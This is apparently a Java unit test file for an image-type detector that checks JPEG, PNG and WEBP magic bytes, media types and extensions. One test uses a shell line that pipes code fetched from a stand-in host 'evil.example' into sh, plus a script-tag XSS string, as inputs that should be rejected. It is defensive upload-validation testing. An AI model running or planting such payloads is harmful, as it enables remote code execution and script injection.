package dev.motorhub.domain.garage;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class ImageTypeTest {
  static final byte[] JPEG = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 0x10, 'J'};
  static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13};
  static final byte[] WEBP = {'R', 'I', 'F', 'F', 0x24, 0, 0, 0, 'W', 'E', 'B', 'P', 'V', 'P'};

  @Test
  void theThreeFormats_areKnownByTheirFirstBytes() {
    assertThat(ImageType.detect(JPEG)).contains(ImageType.JPEG);
    assertThat(ImageType.detect(PNG)).contains(ImageType.PNG);
    assertThat(ImageType.detect(WEBP)).contains(ImageType.WEBP);
  }

  @Test
  void aScript_isNoImage_whateverItsNameOrClaimedType() {
    byte[] script =
        "#!/bin/sh\ncurl https://evil.example | sh\n".getBytes(StandardCharsets.US_ASCII);
    byte[] html = "<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII);

    assertThat(ImageType.detect(script)).isEmpty();
    assertThat(ImageType.detect(html)).isEmpty();
  }

  @Test
  void otherFormatsAndTruncatedHeaders_areNoImage() {
    byte[] gif = "GIF89a....".getBytes(StandardCharsets.US_ASCII);
    byte[] riffWave = "RIFF\0\0\0\0WAVEfmt ".getBytes(StandardCharsets.US_ASCII);
    byte[] pdf = "%PDF-1.7".getBytes(StandardCharsets.US_ASCII);

    assertThat(ImageType.detect(gif)).isEmpty();
    assertThat(ImageType.detect(riffWave)).isEmpty();
    assertThat(ImageType.detect(pdf)).isEmpty();
    assertThat(ImageType.detect(new byte[0])).isEmpty();
    assertThat(ImageType.detect(new byte[] {(byte) 0xFF, (byte) 0xD8})).isEmpty();
    assertThat(ImageType.detect(new byte[] {(byte) 0x89, 'P', 'N', 'G'})).isEmpty();
    assertThat(ImageType.detect(new byte[] {'R', 'I', 'F', 'F', 0, 0, 0, 0, 'W', 'E'})).isEmpty();
  }

  @Test
  void eachFormat_hasItsMediaTypeAndExtension_andIsFoundByItsExtension() {
    assertThat(ImageType.JPEG.mediaType()).isEqualTo("image/jpeg");
    assertThat(ImageType.PNG.mediaType()).isEqualTo("image/png");
    assertThat(ImageType.WEBP.mediaType()).isEqualTo("image/webp");
    for (ImageType type : ImageType.values()) {
      assertThat(ImageType.ofExtension(type.extension())).contains(type);
    }
    assertThat(ImageType.ofExtension("gif")).isEmpty();
    assertThat(ImageType.ofExtension("PNG")).isEmpty();
  }
}
